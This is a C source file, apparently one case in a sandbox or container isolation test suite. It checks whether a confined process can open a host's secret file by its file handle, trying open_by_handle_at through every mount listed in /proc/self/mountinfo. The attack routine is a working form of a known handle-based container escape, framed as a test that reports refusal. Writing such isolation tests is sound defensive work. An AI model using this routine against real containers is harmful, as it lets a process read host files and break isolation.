/* Opens a host's file by its handle, through every mount that it has. */
#include "attack.h"
#include <dirent.h>

struct handle { struct file_handle head; unsigned char bytes[128]; };

void victim(void) {
    struct handle handle = {.head.handle_bytes = 128};
    int mount_id;
    const char *path = secret_file("file");
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) {
        puts("absent: this file system has no handles");
        return;
    }
    char text[300] = "";
    for (unsigned i = 0; i < handle.head.handle_bytes; i++) sprintf(text + 2 * i, "%02x", handle.head.f_handle[i]);
    ready("%d %s", handle.head.handle_type, text);
    wait_for_end();
}
void attack(int n, char **word) {
    struct handle handle = {0};
    char line[4096], text[64] = "", path[1024];
    int refusal = 0;
    (void)n;
    handle.head.handle_type = atoi(word[0]);
    for (; sscanf(word[1] + 2 * handle.head.handle_bytes, "%2hhx", &handle.head.f_handle[handle.head.handle_bytes]) == 1;)
        handle.head.handle_bytes++;
    FILE *mounts = fopen("/proc/self/mountinfo", "r");
    TRY(mounts ? 0 : -1);
    while (fgets(line, sizeof line, mounts)) {
        if (sscanf(line, "%*d %*d %*s %*s %1023s", path) != 1) continue;
        int at = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        if (at < 0) continue;
        int fd = open_by_handle_at(at, &handle.head, O_RDONLY);
        if (fd < 0) refusal = errno;
        if (fd >= 0 && read(fd, text, sizeof text - 1) > 0 && !strcmp(text, SECRET)) reached();
        close(at);
    }
    errno = refusal;
    refused_call("open_by_handle_at");
}
